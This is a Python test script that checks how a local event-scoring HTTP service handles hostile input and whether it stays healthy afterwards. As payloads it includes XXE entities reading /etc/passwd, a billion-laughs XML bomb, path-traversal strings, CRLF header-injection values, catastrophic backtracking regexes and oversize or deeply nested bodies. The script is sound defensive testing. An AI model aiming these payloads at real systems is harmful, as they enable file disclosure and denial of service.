#!/usr/bin/env python3
"""Hostile requests against the real binary (issue 6, "Hostile input and
faults"). Each one gets the JSON error of SPEC section 3 (or the documented
answer) and the service is still healthy after: /healthz 200, a normal git
push still scored 3, no sanitizer report.

- invalid JSON, invalid XML, invalid UTF-8 (JSON and XML), NUL bytes;
- 100 000-deep nesting ([[[[... and {"a":{"a":...) as JSON, NDJSON, XML;
- a 10 MB string field (answered 200, scored, fast);
- XML billion laughs and external entities: DOCTYPE refused (400 bad_xml
  as a body, a per-event error inside a JSON string event or _raw);
- wrong types everywhere: per-event errors or scores, never 500;
- a huge header (431 from libmicrohttpd: HTML, not JSON, see below), a
  long URL (414 from libmicrohttpd), odd query strings;
- oversize bodies: declared (413 before the body is sent) and chunked;
- unknown methods (405 + Allow), path traversal (404 JSON, never a file);
- X-Request-ID header injection (CR, LF, 1 000 characters);
- a rules file with catastrophic regexes: bounded by PCRE2 match limits.

What libmicrohttpd 0.9.75 answers by itself (before any handler runs) is
not JSON and has no X-Request-ID: 431 for a header block over
--connection-memory, 414 for a request line over it, 400 for a malformed
header line (bare LF in a value) or a Content-Length that is not a number,
413 for a Content-Length over 2^64-1. Those are checked for status and for
the service staying healthy; their bodies are HTML (documented here).

Every loop is bounded. Last line: "N passed, M failed".
"""
import http.client
import json
import os
import socket
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rxharness import (VALGRIND, Server, Tally, parse_raw_response,  # noqa: E402
                       request, t)

T = Tally()
JSON = {"Content-Type": "application/json"}
XML = {"Content-Type": "application/xml"}
NDJSON = {"Content-Type": "application/x-ndjson"}
PUSH = {"EventID": 1, "Image": "C:\\Program Files\\Git\\cmd\\git.exe",
        "CommandLine": "git push https://github.com/evil/drop.git main",
        "Computer": "WS01", "User": "CORP\\al"}
DEPTH = 100000
BIG = 2 * 1000 * 1000 if VALGRIND else 10 * 1000 * 1000


def err_code(r):
    j = r.json() if r is not None else None
    if not isinstance(j, dict) or not isinstance(j.get("error"), dict):
        return None
    e = j["error"]
    if not isinstance(e.get("message"), str):
        return None
    return e.get("code")


def expect_error(srv, label, status, code, method, path, body=None,
                 headers=None, timeout=30):
    """One request expecting the SPEC's JSON error {status, code}."""
    try:
        r = srv.request(method, path, body, headers, timeout=timeout)
    except (OSError, http.client.HTTPException) as e:
        T.check(False, label + ": answered", repr(e))
        return None
    T.check(r.status == status and err_code(r) == code,
            "%s: %d %s" % (label, status, code), repr(r))
    T.check(r.header("content-type", ) and
            r.header("content-type").startswith("application/json"),
            label + ": JSON content type", repr(r.headers))
    T.check(bool(r.header("x-request-id")), label + ": X-Request-ID")
    return r


def post(srv, body, headers=JSON, path="/events?notify=false", timeout=30):
    return srv.request("POST", path, body, headers, timeout=timeout)


def batch_ok(label, r, n):
    """A 200 batch answer with n results; returns the results list."""
    j = (r.json() or {}) if r is not None else {}
    ok = (r is not None and r.status == 200 and j.get("received") == n and
          isinstance(j.get("results"), list) and len(j["results"]) == n)
    T.check(ok, label + ": 200 with %d results" % n, repr(r))
    return j.get("results") or []


def raw(port, data, read_timeout=10):
    """Sends data, reads one answer (until close or a complete
    Content-Length body). Returns (status, headers, body, elapsed)."""
    t0 = time.time()
    s = socket.create_connection(("127.0.0.1", port), timeout=t(10))
    buf = b""
    try:
        try:
            s.sendall(data)
        except OSError:
            pass  # the server may answer and close before reading it all
        s.settimeout(t(read_timeout))
        while True:
            try:
                b = s.recv(65536)
            except OSError:
                break
            if not b:
                break
            buf += b
            head, sep, body = buf.partition(b"\r\n\r\n")
            if sep:
                _, h, _ = parse_raw_response(buf)
                n = h.get("content-length")
                if n is not None and n.isdigit() and len(body) >= int(n):
                    break
    finally:
        s.close()
    st, h, body = parse_raw_response(buf)
    return st, h, body, time.time() - t0


# ---------------------------------------------------------------- bodies
def test_bad_bodies(srv):
    cases = [
        ("invalid JSON", b'[{"EventID":1,', JSON, "bad_json"),
        ("invalid JSON token", b"[nope]", JSON, "bad_json"),
        ("lone surrogate escape", b'[{"Image":"\\ud800"}]', JSON,
         "bad_json"),
        ("invalid UTF-8 in a JSON string", b'[{"Image":"a\xff\xfeb"}]',
         JSON, "bad_json"),
        ("overlong UTF-8 in JSON", b'[{"Image":"\xc0\xaf"}]', JSON,
         "bad_json"),
        ("NUL escape in a JSON string", b'[{"Image":"a\\u0000b"}]', JSON,
         "bad_json"),
        ("raw NUL in a JSON string", b'[{"Image":"a\x00b"}]', JSON,
         "bad_json"),
        ("only NUL bytes", b"\x00" * 64, JSON, "bad_json"),
        ("invalid XML", b"<Event><System>", XML, "bad_xml"),
        ("XML mismatched tags", b"<Event><System></Event></System>", XML,
         "bad_xml"),
        ("invalid UTF-8 in XML",
         b"<Event><System><EventID>\xff\xfe</EventID></System></Event>",
         XML, "bad_xml"),
        ("NUL byte in XML",
         b"<Event><System><EventID>1\x00</EventID></System></Event>", XML,
         "bad_xml"),
        ("XML without an Event", b"<a><b/></a>", XML, "bad_xml"),
    ]
    for label, body, hdr, code in cases:
        expect_error(srv, label, 400, code, "POST", "/events?notify=false",
                     body, hdr)
    # Several top-level values under application/json are read as NDJSON
    # (lenient): the bad tail is a per-event error, or the body is 400.
    for label, body in (("trailing garbage", b"[] []x"),
                        ("NUL after the JSON", b"[]\x00")):
        r = post(srv, body)
        j = r.json() or {}
        T.check((r.status == 400 and err_code(r) == "bad_json") or
                (r.status == 200 and j.get("errors", 0) >= 1),
                label + ": 400 bad_json or a per-event error", repr(r))
    # NUL bytes sniffed (no content type) and in NDJSON lines.
    r = post(srv, b"\x00\x00[]", {})
    T.check(r.status == 400 and err_code(r) in ("bad_body", "bad_json"),
            "NUL bytes, sniffed: 400 JSON error", repr(r))
    r = post(srv, b'{"EventID":1}\n{"Image":"a\x00b"}\n\xff\xfe\n',
             NDJSON)
    res = batch_ok("NDJSON with NUL / invalid UTF-8 lines", r, 3)
    T.check(len(res) == 3 and "score" in res[0] and "error" in res[1] and
            "error" in res[2],
            "NDJSON: bad lines are per-event errors", repr(res))
    T.healthy(srv, "bad bodies")


def test_deep_nesting(srv):
    deep = [
        ("[[[[ unclosed", b"[" * DEPTH, JSON),
        ("[[[[ ]]]] closed", b"[" * DEPTH + b"]" * DEPTH, JSON),
        ('{"a":{"a":...', b'{"a":' * DEPTH + b"1" + b"}" * DEPTH, JSON),
        ("events:[{a:[{a:...", b'{"events":[' + b'{"a":[' * (DEPTH // 2) +
         b"1" + b"]}" * (DEPTH // 2) + b"]}", JSON),
        ("sniffed [[[[", b"[" * DEPTH + b"]" * DEPTH, {}),
    ]
    for label, body, hdr in deep:
        t0 = time.time()
        expect_error(srv, "nesting " + label, 400, "bad_json", "POST",
                     "/events?notify=false", body, hdr)
        T.check(time.time() - t0 < t(5), "nesting %s: fast" % label,
                "%.2fs" % (time.time() - t0))
    # NDJSON: the deep line is that event's error.
    r = post(srv, json.dumps(PUSH).encode() + b"\n" +
             b'{"a":' * DEPTH + b"1" + b"}" * DEPTH + b"\n", NDJSON)
    res = batch_ok("NDJSON deep line", r, 2)
    T.check(len(res) == 2 and res[0].get("score") == 3 and
            "error" in res[1], "NDJSON deep line: per-event error",
            repr(res)[:300])
    # Deep XML: expat does not recurse; no Event found, or a scored one.
    body = b"<Events>" + b"<a>" * DEPTH + b"</a>" * DEPTH + b"</Events>"
    expect_error(srv, "deep XML", 400, "bad_xml", "POST",
                 "/events?notify=false", body, XML)
    body = (b"<Event><System><EventID>1</EventID></System><EventData>" +
            b"<x>" * DEPTH + b"</x>" * DEPTH + b"</EventData></Event>")
    r = post(srv, body, XML)
    res = batch_ok("deep XML inside an Event", r, 1)
    T.check(len(res) == 1 and ("score" in res[0] or "error" in res[0]),
            "deep XML inside an Event: scored or per-event error", repr(res))
    # Deep XML inside a JSON string event.
    xml = "<Event>" + "<x>" * DEPTH + "</x>" * DEPTH + "</Event>"
    r = post(srv, json.dumps([xml, {"_raw": xml}]).encode())
    res = batch_ok("deep XML in JSON strings", r, 2)
    T.check(all("score" in x or "error" in x for x in res),
            "deep XML in JSON strings: scored or per-event error", repr(res))
    T.healthy(srv, "deep nesting")


def test_big_string(srv):
    ev = dict(PUSH, CommandLine="git push https://github.com/evil/x.git " +
              "x" * BIG)
    body = json.dumps([ev, PUSH]).encode()
    t0 = time.time()
    r = post(srv, body, timeout=60)
    dt = time.time() - t0
    res = batch_ok("%d MB string field" % (BIG // 1000000), r, 2)
    T.check(len(res) == 2 and res[0].get("score") == 3 and
            res[1].get("score") == 3, "big string: both events scored 3",
            repr(res)[:300])
    T.check(dt < t(5), "big string: answered fast", "%.2fs" % dt)
    print("big string field (%d bytes): %.3fs" % (len(body), dt))
    # The same string with view=alerts (the alert row carries it).
    r = post(srv, body, path="/events?notify=false&view=alerts", timeout=60)
    j = r.json() or {}
    T.check(r.status == 200 and j.get("alert_count") == 2 and
            len(j.get("alerts", [{}])[0].get("CommandLine", "")) > BIG,
            "big string: the alert row keeps the value", repr(r)[:200])
    # A big string as the only (non-event) member of the array.
    r = post(srv, json.dumps(["x" * BIG]).encode(), timeout=60)
    res = batch_ok("big string event", r, 1)
    T.check(len(res) == 1 and "error" in res[0],
            "big string event: per-event error", repr(res)[:200])
    T.healthy(srv, "big string")


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
    '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
    '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
    '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
    '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">'
    ']><Event><System><EventID>1</EventID><Computer>&lol9;</Computer>'
    '</System></Event>')
XXE = ('<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM '
       '"file:///etc/passwd">]><Event><System><EventID>1</EventID>'
       '<Computer>&xxe;</Computer></System></Event>')
XXE_PARAM = ('<!DOCTYPE e [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd">'
             '%p;]><Event><System><EventID>1</EventID></System></Event>')
XXE_EXTERNAL_DTD = ('<!DOCTYPE Event SYSTEM "file:///etc/passwd">'
                    '<Event><System><EventID>1</EventID></System></Event>')
UNDECLARED = ('<Event><System><EventID>1</EventID><Computer>&xxe;'
              '</Computer></System></Event>')


def test_entities(srv):
    for label, doc in (("billion laughs", BILLION_LAUGHS),
                       ("external entity", XXE),
                       ("parameter entity", XXE_PARAM),
                       ("external DTD", XXE_EXTERNAL_DTD)):
        t0 = time.time()
        r = expect_error(srv, "XML body " + label, 400, "bad_xml", "POST",
                         "/events?notify=false", doc, XML)
        T.check(time.time() - t0 < t(2), "XML body %s: fast" % label)
        T.check(r is None or b"root:" not in r.body,
                "XML body %s: no file content" % label)
        # Inside a JSON string event, as _raw and as message: per-event.
        body = json.dumps([doc, {"_raw": doc}, {"message": doc}, PUSH])
        r = post(srv, body)
        res = batch_ok("JSON events with " + label, r, 4)
        T.check(len(res) == 4 and all("error" in x for x in res[:2]) and
                "DOCTYPE" in res[0].get("error", "") and
                res[3].get("score") == 3,
                "JSON events with %s: per-event errors, the rest scored" %
                label, repr(res)[:400])
        T.check(b"root:" not in r.body, "%s: no file content" % label)
    # An undeclared entity is malformed XML, never resolved.
    expect_error(srv, "undeclared entity", 400, "bad_xml", "POST",
                 "/events?notify=false", UNDECLARED, XML)
    T.healthy(srv, "entities")


def test_wrong_types(srv):
    events = [
        {"EventID": {"a": 1}, "Image": 5},
        {"EventID": [1], "Image": ["git.exe"]},
        {"EventID": True, "Image": False},
        {"EventID": None, "Image": None, "CommandLine": None},
        {"EventID": 1.5e308, "Image": {"x": 1}, "CommandLine": [1, 2]},
        {"EventID": -1, "_messageTime": {"x": 1}, "@timestamp": 5},
        {"EventID": "1", "Image": "C:\\git.exe", "CommandLine": 123,
         "Computer": ["a"], "User": {"name": 1}},
        {"winlog": "notanobject", "process": [], "user": {"name": []},
         "data": {"win": 5}},
        {"_raw": 5, "message": {"a": 1}},
        {"_raw": "{\"EventID\":[]}"},
        1, "x", None, [], True, 1.5,
    ]
    r = post(srv, json.dumps(events).encode())
    res = batch_ok("wrong types", r, len(events))
    T.check(all(("score" in x) != ("error" in x) for x in res),
            "wrong types: each a score or an error", repr(res)[:300])
    T.check(all("error" in x for x in res[-6:]),
            "wrong types: non-objects are per-event errors", repr(res[-6:]))
    # An integer past 64 bits: jansson refuses the whole body (400).
    r = post(srv, b'[{"EventID":99999999999999999999999}]')
    T.check(r.status == 400 and err_code(r) == "bad_json",
            "integer past 64 bits: 400 bad_json", repr(r))
    # Envelopes with wrong types: never 500; a JSON answer.
    for label, body in (
            ("events as number", '{"events":5}'),
            ("events as object", '{"events":{"EventID":1}}'),
            ("events as null", '{"events":null}'),
            ("results as object", '{"results":{"a":1}}'),
            ("results as bool", '{"results":true}'),
            ("events as a string of garbage", '{"events":"notjson"}'),
            ("results as a string of a bad array", '{"results":"[1,"}'),
            ("results as a string of a number", '{"results":"5"}'),
            ("result as array", '{"result":[1,2]}'),
            ("hits.hits as object", '{"hits":{"hits":{"a":1}}}'),
            ("hits as number", '{"hits":5}'),
            ("backlog as string", '{"backlog":"x","event_definition_id":1}'),
            ("all_fields as array", '{"all_fields":[1]}'),
            ("top-level number", "5"), ("top-level string", '"x"'),
            ("top-level null", "null"), ("top-level true", "true")):
        r = post(srv, body.encode())
        j = r.json()
        T.check(r.status in (200, 400) and isinstance(j, dict) and
                (r.status == 400) == ("error" in j) and
                (r.status != 400 or err_code(r) in ("bad_json", "bad_body")),
                "envelope %s: 200 batch or 400 JSON error" % label, repr(r))
    T.healthy(srv, "wrong types")


# ---------------------------------------------------------------- HTTP layer
def test_huge_header(srv):
    for label, hdr in (("one 40 KiB header", b"X-Big: " + b"a" * 40000),
                       ("many headers", b"".join(b"X-H%d: %s\r\n" %
                                                 (i, b"b" * 100)
                                                 for i in range(400))
                        .rstrip(b"\r\n"))):
        st, h, body, dt = raw(srv.port, b"GET /healthz HTTP/1.1\r\nHost: x"
                              b"\r\n" + hdr + b"\r\n\r\n")
        T.check(st == 431, "huge header (%s): 431" % label, "%r %r" %
                (st, body[:200]))
        # Documented: libmicrohttpd's own page (HTML), not the SPEC's JSON.
        is_json = body.startswith(b"{")
        print("huge header (%s): %d, %s body, X-Request-ID %s" %
              (label, st, "JSON" if is_json else "non-JSON (%s)" %
               h.get("content-type", "no content type"),
               "present" if "x-request-id" in h else "absent"))
    # The same on POST /events with a body behind it.
    st, h, body, dt = raw(srv.port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                          b"Content-Length: 2\r\nX-Big: " + b"a" * 40000 +
                          b"\r\n\r\n[]")
    T.check(st == 431, "huge header on POST: 431", repr(st))
    # A long URL: 20 000 characters fit; 40 000 get 414 from libmicrohttpd.
    r = srv.request("GET", "/healthz?" + "a" * 20000)
    T.check(r.status == 200, "20 000-character URL: 200", repr(r))
    st, h, body, dt = raw(srv.port, b"GET /healthz?" + b"a" * 40000 +
                          b" HTTP/1.1\r\nHost: x\r\n\r\n")
    T.check(st in (414, 431), "40 000-character URL: 414", repr(st))
    r = srv.request("GET", "/" + "a" * 20000)
    T.check(r.status == 404 and err_code(r) == "not_found",
            "20 000-character path: 404 JSON", repr(r))
    T.healthy(srv, "huge header")


def test_oversize(srv, port, limit):
    # Declared: answered before the body is sent (we send none).
    for cl in (limit + 1, 10 ** 12, 2 ** 64 - 1):
        st, h, body, dt = raw(port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                              b"Content-Type: application/json\r\n"
                              b"Content-Length: %d\r\n\r\n" % cl)
        j = json.loads(body) if body.startswith(b"{") else {}
        T.check(st == 413 and j.get("error", {}).get("code") ==
                "body_too_large", "declared %d: 413 body_too_large" % cl,
                "%r %r" % (st, body[:200]))
        T.check(dt < t(3), "declared %d: before the body" % cl, "%.2fs" % dt)
    # With Expect: 100-continue: 413 instead of 100.
    st, h, body, dt = raw(port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                          b"Content-Length: %d\r\nExpect: 100-continue\r\n"
                          b"\r\n" % (limit + 1))
    T.check(st == 413, "declared with Expect: 413, no 100", repr(st))
    # Past 2^64-1 and negative: libmicrohttpd's own 413 / 400 (HTML).
    st, h, body, dt = raw(port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                          b"Content-Length: 18446744073709551616\r\n\r\n")
    T.check(st == 413, "Content-Length 2^64: 413 (libmicrohttpd)", repr(st))
    st, h, body, dt = raw(port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                          b"Content-Length: -1\r\n\r\n")
    T.check(st == 400, "Content-Length -1: 400 (libmicrohttpd)", repr(st))
    # Chunked past the cap: 413 at its end.
    chunk = b" " * 65536
    n = (limit // len(chunk)) + 4
    body = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(n))
    st, h, rb, dt = raw(port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                        b"Content-Type: application/json\r\n"
                        b"Transfer-Encoding: chunked\r\n\r\n1\r\n[\r\n" + body +
                        b"0\r\n\r\n", read_timeout=30)
    j = json.loads(rb) if rb.startswith(b"{") else {}
    T.check(st == 413 and j.get("error", {}).get("code") == "body_too_large",
            "chunked past the cap: 413 body_too_large", "%r %r" %
            (st, rb[:200]))
    # Chunked just under the cap is read.
    events = json.dumps([PUSH] * 10).encode()
    st, h, rb, dt = raw(port, b"POST /events?notify=false HTTP/1.1\r\n"
                        b"Host: x\r\nContent-Type: application/json\r\n"
                        b"Transfer-Encoding: chunked\r\n\r\n" +
                        b"".join(b"%x\r\n%s\r\n" % (1, events[i:i + 1])
                                 for i in range(len(events))) +
                        b"0\r\n\r\n")
    j = json.loads(rb) if rb.startswith(b"{") else {}
    T.check(st == 200 and j.get("evaluated") == 10,
            "chunked one byte per chunk: 200", "%r %r" % (st, rb[:200]))


def test_methods_and_paths(srv):
    for m in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO",
              "CONNECT"):
        path = "/events" if m != "CONNECT" else "/events"
        r = expect_error(srv, "%s /events" % m, 405, "method_not_allowed",
                         m, path, b"[]" if m in ("PUT", "PATCH") else None,
                         JSON)
        T.check(r is not None and r.header("allow") == "POST",
                "%s /events: Allow: POST" % m, repr(r and r.headers))
    r = expect_error(srv, "POST /healthz", 405, "method_not_allowed", "POST",
                     "/healthz", b"{}", JSON)
    T.check(r is not None and "GET" in (r.header("allow") or ""),
            "POST /healthz: Allow has GET")
    r = expect_error(srv, "FOO /nowhere", 404, "not_found", "FOO",
                     "/nowhere")
    for path in ("/../etc/passwd", "/events/../rules", "/%2e%2e/etc/passwd",
                 "/%2e%2e%2fetc%2fpasswd", "/..%2f..%2fetc/passwd", "//events",
                 "/./healthz", "/healthz/..", "/rules/",
                 "/openapi.yaml/../../../../etc/passwd",
                 "/..\\..\\etc\\passwd",
                 "/etc/passwd", "/%00", "/proc/self/environ"):
        r = srv.request("GET", path)
        T.check(r.status == 404 and err_code(r) == "not_found",
                "GET %s: 404 JSON" % path, repr(r))
        T.check(b"root:" not in r.body and b"PATH=" not in r.body,
                "GET %s: never a file" % path)
    # %00 is decoded by libmicrohttpd and ends the path for the router:
    # the contract (a route), never a file.
    r = srv.request("GET", "/openapi.yaml%00.txt")
    T.check(r.status == 404 or (r.status == 200 and
                                r.body.startswith(b"openapi:")),
            "GET /openapi.yaml%00.txt: 404 or the contract", repr(r))
    r = srv.request("POST", "/events?x=../../&y=%2e%2e%2f", b"[]", JSON)
    T.check(r.status == 200, "POST /events?x=../../: the route", repr(r))
    r = srv.request("GET", "/openapi.yaml?../../etc/passwd")
    T.check(r.status == 200 and b"openapi" in r.body[:200],
            "GET /openapi.yaml?../..: the contract", repr(r)[:100])
    # Odd query strings: still scored, never an error.
    for q in ("notify=%00", "view=%ff%fe", "view=alerts&view=all",
              "notify=&view=", "&&&=&x", "notify=false%00true",
              "%zz=%", "view=" + "a" * 5000, "a=1;b=2", "notify"):
        r = srv.request("POST", "/events?" + q + "&notify=false",
                        json.dumps([PUSH]), JSON)
        j = r.json() or {}
        T.check(r.status == 200 and j.get("alert_count") == 1,
                "odd query %r: 200 scored" % q[:30], repr(r))
    T.healthy(srv, "methods and paths")


def test_request_id(srv):
    cases = [
        ("CR in X-Request-ID", b"abc\rdef"),
        ("1000 characters", b"a" * 1000),
        ("129 characters", b"a" * 129),
        ("space", b"a b"),
        ("quote and angle", b'a"<script>'),
        ("non-ASCII", b"\xc3\xa9t\xc3\xa9"),
        ("header splitting attempt", b"abc%0d%0aSet-Cookie: x=1"),
    ]
    for label, value in cases:
        st, h, body, dt = raw(srv.port, b"GET /healthz HTTP/1.1\r\nHost: x"
                              b"\r\nConnection: close\r\nX-Request-ID: " +
                              value + b"\r\n\r\n")
        rid = h.get("x-request-id", "")
        T.check(st == 200 and rid and rid.encode() != value and
                all(c.isalnum() or c in "._:-" for c in rid) and
                len(rid) <= 128 and "set-cookie" not in h,
                "%s: replaced by a generated id" % label,
                "%r %r" % (st, h))
    # A bare LF inside a header value ends the line: libmicrohttpd 400
    # (HTML) or the rest as a bad header line; never an injected header.
    st, h, body, dt = raw(srv.port, b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
                          b"Connection: close\r\nX-Request-ID: abc\nSet-"
                          b"Cookie: x=1\r\n\r\n")
    T.check(st in (200, 400) and "set-cookie" not in h,
            "LF in X-Request-ID: no injected header", "%r %r" % (st, h))
    # CRLF + header: a separate (ignored) header; the id is the sane part.
    st, h, body, dt = raw(srv.port, b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
                          b"Connection: close\r\nX-Request-ID: abc\r\n"
                          b"X-Injected: 1\r\n\r\n")
    T.check(st == 200 and h.get("x-request-id") == "abc" and
            "x-injected" not in h, "CRLF: the sane id kept, nothing echoed",
            "%r %r" % (st, h))
    # The batch answer's request_id matches the header.
    r = srv.request("POST", "/events?notify=false", json.dumps([PUSH]),
                    dict(JSON, **{"X-Request-ID": "x" * 1000}))
    j = r.json() or {}
    T.check(r.status == 200 and j.get("request_id") ==
            r.header("x-request-id") and len(j.get("request_id", "")) < 129,
            "1000-char id on POST: generated, same in the body", repr(r))
    T.healthy(srv, "request id")


# ---------------------------------------------------------------- rules
def test_catastrophic_regex():
    tmp = tempfile.mkdtemp(prefix="rx-hostile-")
    evil = "a" * 50000 + "!"
    for label, regex in (("(a+)+$", "(a+)+$"), ("(a|aa)+$", "(a|aa)+$"),
                         ("(.*a){12}$", "(.*a){12}$")):
        path = os.path.join(tmp, "rules.json")
        with open(path, "w") as f:
            json.dump({"ci_system_regex": regex, "known_ide_regex": regex},
                      f)
        srv = Server("--rules", path, "--workers", "2",
                     name="regex " + label)
        try:
            n = 5 if VALGRIND else 20
            events = [dict(PUSH, Computer=evil, ParentImage=evil)] * n
            t0 = time.time()
            r = post(srv, json.dumps(events).encode(), timeout=60)
            dt = time.time() - t0
            res = batch_ok("regex %s: %d events" % (label, n), r, n)
            T.check(all("score" in x for x in res),
                    "regex %s: every event scored" % label, repr(res)[:200])
            T.check(dt < t(3), "regex %s: answered in < 3 s" % label,
                    "%.2fs" % dt)
            print("catastrophic regex %s, %d events with 50 001-char "
                  "Computer/ParentImage: %.3fs" % (label, n, dt))
            # A matching CI name still matches (the limit did not break it).
            r = post(srv, json.dumps([dict(PUSH, Computer="a" * 20)]))
            res = batch_ok("regex %s: short match" % label, r, 1)
            T.check(res and res[0].get("is_ci_system") is True,
                    "regex %s: a short name still matches" % label,
                    repr(res))
            T.healthy(srv, "regex " + label)
        finally:
            T.stopped_cleanly(srv, "regex " + label)
    os.unlink(path)
    os.rmdir(tmp)


def main():
    limit = 1 << 20
    with Server("--workers", "2", name="hostile") as srv:
        test_bad_bodies(srv)
        test_deep_nesting(srv)
        test_big_string(srv)
        test_entities(srv)
        test_wrong_types(srv)
        test_huge_header(srv)
        test_methods_and_paths(srv)
        test_request_id(srv)
        test_oversize(srv, srv.port, 16777216)
        T.healthy(srv, "oversize (default limit)")
        T.stopped_cleanly(srv, "hostile")
    with Server("--workers", "2", "--max-body-bytes", str(limit),
                name="small-limit") as srv:
        test_oversize(srv, srv.port, limit)
        T.healthy(srv, "oversize (1 MiB limit)")
        T.stopped_cleanly(srv, "small-limit")
    test_catastrophic_regex()
    return T.finish()


if __name__ == "__main__":
    sys.exit(main())
